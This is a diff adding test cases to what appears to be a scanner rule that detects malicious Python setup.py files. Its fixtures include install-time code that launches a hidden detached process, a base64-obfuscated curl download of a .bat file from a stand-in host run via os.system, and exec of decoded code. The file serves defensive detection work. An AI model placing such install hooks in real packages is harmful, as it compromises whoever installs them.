@@ -44,5 +44,17 @@ ruleTest(rule, {
       code: `import os; exec(os.environ.get("X") or __import__("base64").b64decode("cHJpbnQoMSk="))\n`,
       findings: [{ line: 1, message: /exec\(\) of computed code at every Python start/ }],
     },
+    {
+      name: 'hidden process at install time',
+      file: 'setup.py',
+      code: `import subprocess\nsubprocess.Popen(file, creationflags=0x08000000, shell=True)\nsetup(name="p")\n`,
+      findings: [{ line: 2, severity: 'critical', message: /hidden or detached process at install time/ }],
+    },
+    {
+      name: 'network command decoded through a multi-line helper',
+      file: 'setup.py',
+      code: `import base64, os\ndef b64d(code):\n    raw = code.encode("ascii")\n    out = base64.b64decode(raw)\n    return out.decode("ascii")\nos.system(b64d("${Buffer.from('curl -s -o x.bat https://cdn.example.net/x.bat').toString('base64')}"))\n`,
+      findings: [{ line: 6, severity: 'critical', decoded: /^curl -s -o x\.bat/ }],
+    },
   ],
 });
